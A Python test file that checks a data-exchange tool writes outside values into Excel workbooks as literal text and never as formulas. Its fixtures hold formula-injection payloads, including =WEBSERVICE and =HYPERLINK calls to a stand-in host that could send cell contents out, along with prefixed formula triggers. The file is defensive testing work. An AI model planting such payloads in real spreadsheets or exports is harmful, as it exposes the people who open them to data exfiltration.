"""Issue 20, item 1: a value from outside (DPS's files, IMPACT's rows, the config) is always
written to a workbook as text, never as a formula, and kept exactly."""

import sqlite3
from pathlib import Path

import openpyxl
import pytest

from exchange.excel import Sheet, write_workbook
from tests.scenario import RESULTS_HEADER, SENT_PIDS, report_files, results_line

AS_OF = ("--as-of", "2025-06-20")
security = pytest.mark.reliability("security")

HYPERLINK = '=HYPERLINK("http://x.example/p","click")'
WEBSERVICE = '=WEBSERVICE("http://x.example/?"&A1)'
HOSTILE = [HYPERLINK, WEBSERVICE, "\t=1+1", " =2+2", "\r=3+3", "+1+1", "-1+1", "@SUM(A1)",
           "#N/A", "#DIV/0!"]
HOSTILE_HEADER = "=SUM(1,1)"


def all_cells(path: Path) -> list[tuple[str, str, object, str]]:
    """(sheet, coordinate, value, data type) of every non-empty cell of a workbook."""
    workbook = openpyxl.load_workbook(path)
    return [(sheet.title, cell.coordinate, cell.value, cell.data_type)
            for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def formulas(path: Path) -> list[tuple[str, str, object, str]]:
    return [cell for cell in all_cells(path) if cell[3] in ("f", "e")]


@security
def test_the_writer_keeps_hostile_text_as_exact_text_in_headers_and_cells(tmp_path):
    path = tmp_path / "hostile.xlsx"
    write_workbook(path, [Sheet("Records", [HOSTILE_HEADER, "N"],
                                [[value, 1] for value in HOSTILE])])
    assert formulas(path) == []
    values = [cell[2] for cell in all_cells(path) if cell[1].startswith("A")]
    # XML reads a carriage return inside text back as a line feed (Excel too): the one change.
    assert values == [HOSTILE_HEADER, *(v.replace("\r", "\n") for v in HOSTILE)]


def hostile_answer() -> tuple[bytes, bytes]:
    """The scenario's answer with a hostile name on every row DPS returns, and an extra header
    column whose name is a formula."""
    rows = [(1001, "M000000001", "20250311", HYPERLINK, "ZOE"),
            (1002, "M000000002", "20250420", WEBSERVICE, "SEAN"),
            (1005, "M000000005", "20250415", "SMITH", "\t=1+1"),
            (1006, "M000000006", "20250307", " =2+2", "TYRONE"),
            (1007, "M000000007", "20250507", "\r=3+3", "DULCE")]
    lines = [results_line(pid, nic, dlc, last=last, first=first) + "|x"
             for pid, nic, dlc, last, first in rows]
    results = "\r\n".join([RESULTS_HEADER + "|" + HOSTILE_HEADER, *lines]) + "\r\n"
    counts = (f"RECORDS_RECEIVED|{len(SENT_PIDS)}\r\nPERSONS_WITH_RECORDS|5\r\n"
              "RESULT_RECORDS|5\r\n")
    return results.encode(), counts.encode()


@security
def test_no_report_or_sheet_holds_a_formula_from_dps_or_impact(workspace):
    with sqlite3.connect(workspace.db_path) as connection:   # IMPACT's own rows, hostile too
        connection.execute("UPDATE person SET last_name = ? WHERE person_id = 1004",
                           (HYPERLINK,))
        connection.execute("UPDATE person SET first_name = ? WHERE person_id = 1004",
                           ("@SUM(A1)",))
    assert workspace.send(*AS_OF) == 0
    workspace.put_answer(*hostile_answer())
    assert workspace.receive(*AS_OF) == 0

    reports = sorted(workspace.folder("share").glob("*.xlsx"))
    [export] = workspace.folder("archive").glob("send/*/*_end_export.xlsx")
    assert [path.name for path in reports] == report_files()
    seen = set()
    for path in [*reports, export]:
        assert formulas(path) == [], path.name
        seen |= {cell[2] for cell in all_cells(path) if isinstance(cell[2], str)}
    # Values are kept exactly (fields are trimmed as they are read, so "\t=1+1" is "=1+1").
    # DPS's own names are upper-case already; the header name is upper-cased as it is read.
    for value in (HYPERLINK, WEBSERVICE, "=1+1", "=2+2", "=3+3", "@SUM(A1)"):
        assert any(value in text for text in seen), value
    assert any(HOSTILE_HEADER in text for text in seen)
